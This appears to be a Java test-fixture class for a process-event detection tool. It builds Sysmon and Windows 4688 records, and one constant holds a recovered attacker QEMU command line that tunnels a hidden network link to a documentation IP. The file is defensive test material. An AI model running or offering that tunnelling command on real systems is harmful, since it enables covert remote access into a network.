package io.procwatch;

import io.procwatch.normalize.EventNormalizer;
import io.procwatch.normalize.ProcessEvent;
import io.procwatch.intake.EventSource;
import io.procwatch.read.Origin;
import io.procwatch.read.RawRecord;

import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Builds process events for tests the way the readers would hand them over (RawRecord field names). */
public final class TestEvents {

    public static final String QEMU_DESCRIPTION = "QEMU machine emulators and tools";
    /** Kaspersky's recovered attacker command line (SOURCES.md #1), with a documentation IP. */
    public static final String KASPERSKY_1 = "qemu-system-i386.exe -m 1M -netdev user,id=lan,restrict=off "
            + "-netdev socket,id=sock,connect=203.0.113.45:443 -netdev hubport,id=port-lan,hubid=0,netdev=lan "
            + "-netdev hubport,id=port-sock,hubid=0,netdev=sock -nographic";

    private static final EventNormalizer NORMALIZER = new EventNormalizer();
    private static int seq;

    private TestEvents() {
    }

    /** The process events of {@code paths}, read through the one intake path; rejected records are left out. */
    public static List<ProcessEvent> read(List<Path> paths) {
        return new EventSource().readProcessEvents(paths);
    }

    /** A Sysmon EID 1 record with the usual fields; {@code extra} overrides or adds (a null value removes). */
    public static Map<String, String> sysmonFields(String time, String commandLine, Map<String, String> extra) {
        Map<String, String> f = new LinkedHashMap<>();
        f.put("Provider", "Microsoft-Windows-Sysmon");
        f.put("EventID", "1");
        f.put("Channel", "Microsoft-Windows-Sysmon/Operational");
        f.put("Computer", "WKS-01");
        f.put("SystemTime", time);
        f.put("UserID", "S-1-5-18");
        f.put("ProcessGuid", "{00000000-0000-0000-0000-00000000000" + (++seq % 10) + "}");
        f.put("ProcessId", "4242");
        f.put("Image", "C:\\Users\\Public\\qemu-system-i386.exe");
        f.put("Description", QEMU_DESCRIPTION);
        f.put("Product", "QEMU");
        f.put("Company", "http://www.qemu-project.org");
        f.put("OriginalFileName", "qemu-system-i386.exe");
        f.put("CommandLine", commandLine);
        f.put("User", "CORP\\jdoe");
        f.put("IntegrityLevel", "High");
        f.put("Hashes", "SHA256=00");
        f.put("ParentProcessGuid", "{00000000-0000-0000-0000-000000000100}");
        f.put("ParentProcessId", "100");
        f.put("ParentImage", "C:\\Windows\\System32\\cmd.exe");
        f.put("ParentCommandLine", "cmd.exe");
        if (extra != null) {
            extra.forEach((k, v) -> {
                if (v == null) {
                    f.remove(k);
                } else {
                    f.put(k, v);
                }
            });
        }
        return f;
    }

    public static ProcessEvent sysmon(String time, String commandLine) {
        return sysmon(time, commandLine, null);
    }

    public static ProcessEvent sysmon(String time, String commandLine, Map<String, String> extra) {
        return normalize(sysmonFields(time, commandLine, extra));
    }

    /** A Security 4688 record (names as Windows writes them). */
    public static ProcessEvent security4688(String time, String commandLine) {
        Map<String, String> f = new LinkedHashMap<>();
        f.put("Provider", "Microsoft-Windows-Security-Auditing");
        f.put("EventID", "4688");
        f.put("Channel", "Security");
        f.put("Computer", "WKS-02");
        f.put("SystemTime", time);
        f.put("SubjectUserSid", "S-1-5-21-1-2-3-1107");
        f.put("SubjectUserName", "asmith");
        f.put("SubjectDomainName", "CORP");
        f.put("NewProcessId", "0x1f40");
        f.put("NewProcessName", "C:\\Temp\\qemu-system-i386.exe");
        f.put("ProcessId", "0x13a4");
        if (commandLine != null) {
            f.put("CommandLine", commandLine);
        }
        f.put("ParentProcessName", "C:\\Windows\\System32\\cmd.exe");
        f.put("MandatoryLabel", "S-1-16-8192");
        return normalize(f);
    }

    public static ProcessEvent normalize(Map<String, String> fields) {
        try {
            ProcessEvent e = NORMALIZER.normalize(new RawRecord(new Origin("test", ++seq), fields));
            if (e == null) {
                throw new IllegalArgumentException("not a process event: " + fields);
            }
            return e;
        } catch (io.procwatch.normalize.RejectedRecordException ex) {
            throw new IllegalArgumentException(ex.getMessage());
        }
    }
}
